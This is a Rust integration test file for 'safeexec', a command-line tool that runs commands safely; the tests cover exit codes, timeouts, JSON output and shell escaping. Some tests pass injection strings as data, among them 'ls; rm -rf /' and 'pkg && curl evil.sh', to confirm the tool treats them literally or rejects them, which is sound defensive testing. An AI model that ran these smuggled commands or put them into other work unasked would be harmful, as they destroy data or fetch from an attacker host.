//! CLI binary integration tests.
//!
//! These tests exercise the compiled `safeexec` binary: command routing,
//! argument passthrough and exit codes.

use std::process::{Command, Output};

use safeexec_integration_tests::safeexec_bin;
use tempfile::TempDir;

/// Build a command isolated from the user's real config.
fn safeexec_cmd(home: &TempDir) -> Command {
    let bin = safeexec_bin();
    assert!(
        bin.exists(),
        "safeexec binary not found at {}; run `cargo build -p safeexec-cli` first",
        bin.display()
    );
    let mut cmd = Command::new(bin);
    cmd.env("HOME", home.path()).env_remove("SAFEEXEC_CONFIG");
    cmd
}

fn run(args: &[&str]) -> Output {
    let home = TempDir::new().unwrap();
    safeexec_cmd(&home)
        .args(args)
        .output()
        .expect("failed to run safeexec")
}

#[test]
fn test_cli_version() {
    let output = run(&["version"]);
    assert!(output.status.success(), "version command should succeed");
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("safeexec"), "got: {}", stdout);
}

#[test]
fn test_cli_help() {
    let output = run(&["--help"]);
    assert!(output.status.success(), "--help should succeed");
    let stdout = String::from_utf8_lossy(&output.stdout);
    for command in ["exec", "spawn", "check", "escape"] {
        assert!(stdout.contains(command), "help should mention '{}'", command);
    }
}

#[test]
fn test_cli_unknown_command() {
    let output = run(&["nonexistent-command"]);
    assert!(!output.status.success());
}

#[cfg(unix)]
#[test]
fn test_exec_passes_metacharacters_literally() {
    let output = run(&["exec", "echo", "hello; rm -rf /"]);
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(String::from_utf8_lossy(&output.stdout), "hello; rm -rf /\n");
}

#[cfg(unix)]
#[test]
fn test_exec_propagates_exit_code() {
    let output = run(&["exec", "sh", "-c", "exit 7"]);
    assert_eq!(output.status.code(), Some(7));
}

#[cfg(unix)]
#[test]
fn test_exec_json_output() {
    let output = run(&["exec", "--json", "printf", "abc"]);
    assert_eq!(output.status.code(), Some(0));
    let value: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(value["stdout"], "abc");
    assert_eq!(value["exit_code"], 0);
}

#[test]
fn test_exec_invalid_command_is_validation_error() {
    let output = run(&["exec", "ls; rm -rf /"]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("unsafe characters"), "got: {}", stderr);
}

#[cfg(unix)]
#[test]
fn test_spawn_timeout_exit_code() {
    let output = run(&["spawn", "--timeout-ms", "100", "sleep", "5"]);
    assert_eq!(output.status.code(), Some(124));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("timed out"), "got: {}", stderr);
}

#[test]
fn test_check_package() {
    assert_eq!(run(&["check", "package", "@scope/pkg"]).status.code(), Some(0));
    assert_eq!(
        run(&["check", "package", "pkg && curl evil.sh"]).status.code(),
        Some(1)
    );
}

#[test]
fn test_escape() {
    let output = run(&["escape", "it's"]);
    assert!(output.status.success());
    assert_eq!(String::from_utf8_lossy(&output.stdout), "'it'\\''s'\n");
}

#[cfg(unix)]
#[test]
fn test_run_request_rejects_non_string_argument() {
    let home = TempDir::new().unwrap();
    let request = home.path().join("request.json5");
    std::fs::write(&request, r#"{ command: "echo", args: ["ok", 1] }"#).unwrap();

    let output = safeexec_cmd(&home)
        .arg("run")
        .arg(&request)
        .output()
        .expect("failed to run safeexec");
    assert_eq!(output.status.code(), Some(2));
    assert!(output.stdout.is_empty());
}

#[test]
fn test_explicit_missing_config_fails() {
    let home = TempDir::new().unwrap();
    let output = safeexec_cmd(&home)
        .args(["--config", "/definitely/not/here.json5", "config", "show"])
        .output()
        .expect("failed to run safeexec");
    assert!(!output.status.success());
}
